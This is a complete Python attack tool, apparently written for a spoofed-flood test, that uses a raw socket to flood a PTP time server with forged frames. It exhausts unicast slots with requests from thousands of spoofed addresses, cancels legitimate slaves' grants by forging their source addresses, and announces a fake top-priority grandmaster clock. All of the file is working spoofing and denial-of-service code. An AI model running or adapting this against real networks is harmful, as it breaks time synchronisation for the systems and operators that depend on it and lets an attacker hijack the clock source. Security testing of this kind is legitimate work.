#!/usr/bin/env python3
"""A hostile sender with forged source addresses, for the spoofed-flood test.

Sends, through a raw IPv4 socket (IP_HDRINCL) so that every frame carries a forged source
address and a random port identity:

* Signaling REQUEST_UNICAST_TRANSMISSION (Announce, Sync or Delay_Resp, 60 s) from
  `--count` addresses of `--spoof` (e.g. 10.78.0.0/16): each would take a slave slot;
* Signaling CANCEL_UNICAST_TRANSMISSION from the real slaves' addresses (`--victims`),
  with identities that are not theirs: each would end a real slave's grant;
* Announce of a better clock (priority1 0, class 6) from the spoofed addresses.

Mix: half REQUEST, a quarter CANCEL, a quarter Announce; `--rate` frames a second in all,
paced per millisecond. Prints `sent N frames in T s (R/s)` at the end.

  ptp-spoof.py --dst 10.77.0.1 --spoof 10.78.0.0/16 --count 4000 \\
      --victims 10.77.0.2-10.77.0.51 --rate 20000 --seconds 30
"""

import argparse
import ipaddress
import random
import socket
import struct
import time


def ptp_header(msg_type, length, ident, seq, flags=0, control=5, log=0x7F):
    return (
        struct.pack(">BBHBBH", msg_type, 0x12, length, 0, 0, flags)
        + bytes(8)
        + bytes(4)
        + ident
        + struct.pack(">HBB", seq, control, log)
    )


def request(ident, seq, rng):
    mt = rng.choice([0x0, 0xB, 0x9])  # Sync, Announce, Delay_Resp
    tlv = struct.pack(">HHBbI", 0x0004, 6, mt << 4, 0, 60)
    body = b"\xff" * 10 + tlv
    return ptp_header(0xC, 34 + len(body), ident, seq, flags=0x0400) + body


def cancel(ident, seq, rng):
    mt = rng.choice([0x0, 0xB, 0x9])
    tlv = struct.pack(">HHBB", 0x0006, 2, mt << 4, 0)
    body = b"\xff" * 10 + tlv
    return ptp_header(0xC, 34 + len(body), ident, seq, flags=0x0400) + body


def announce(ident, seq, rng):
    gm = ident[:8]
    body = bytes(10) + struct.pack(">hBBBBHB", 37, 0, 0, 6, 0x21, 0x4E5D, 0)
    body += gm + struct.pack(">HB", 0, 0x20)
    return ptp_header(0xB, 34 + len(body), ident, seq, flags=0x0008, log=0) + body


def udp4(src, dst, sport, dport, payload):
    udp = struct.pack(">HHHH", sport, dport, 8 + len(payload), 0) + payload  # no checksum
    total = 20 + len(udp)
    ip = struct.pack(
        ">BBHHHBBH4s4s", 0x45, 0, total, 0, 0x4000, 64, 17, 0,
        socket.inet_aton(src), socket.inet_aton(dst),
    )
    s = sum(struct.unpack(">10H", ip))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    ip = ip[:10] + struct.pack(">H", ~s & 0xFFFF) + ip[12:]
    return ip + udp


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--dst", required=True)
    ap.add_argument("--spoof", required=True, help="prefix the forged sources come from")
    ap.add_argument("--count", type=int, default=4000)
    ap.add_argument("--victims", required=True, help="first-last address of the real slaves")
    ap.add_argument("--rate", type=int, default=20000)
    ap.add_argument("--seconds", type=float, default=30.0)
    ap.add_argument("--seed", type=int, default=1)
    a = ap.parse_args()
    rng = random.Random(a.seed)
    net = ipaddress.ip_network(a.spoof)
    hosts = rng.sample(range(1, net.num_addresses - 1), a.count)
    spoofed = [str(net.network_address + h) for h in hosts]
    lo, hi = (ipaddress.ip_address(x) for x in a.victims.split("-"))
    victims = [str(ipaddress.ip_address(i)) for i in range(int(lo), int(hi) + 1)]
    frames = []
    for i in range(8192):
        ident = bytes(rng.randrange(256) for _ in range(8)) + b"\x00\x01"
        kind = i % 4
        if kind in (0, 1):
            src = spoofed[i % len(spoofed)]
            p = request(ident, i & 0xFFFF, rng)
        elif kind == 2:
            src = victims[i % len(victims)]
            p = cancel(ident, i & 0xFFFF, rng)
        else:
            src = spoofed[(i * 7) % len(spoofed)]
            p = announce(ident, i & 0xFFFF, rng)
        frames.append(udp4(src, a.dst, 320, 320, p))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
    per_ms = a.rate / 1000.0
    sent, owed, i = 0, 0.0, 0
    start = time.perf_counter()
    tick, end = start, start + a.seconds
    while time.perf_counter() < end:
        owed += per_ms
        n = int(owed)
        owed -= n
        for _ in range(n):
            try:
                s.sendto(frames[i & 8191], (a.dst, 0))
                sent += 1
            except OSError:
                pass
            i += 1
        tick += 0.001
        delay = tick - time.perf_counter()
        if delay > 0:
            time.sleep(delay)
        elif delay < -0.05:
            tick = time.perf_counter()
    took = time.perf_counter() - start
    print(f"sent {sent} frames in {took:.2f} s ({sent / took:.0f}/s)", flush=True)


if __name__ == "__main__":
    main()
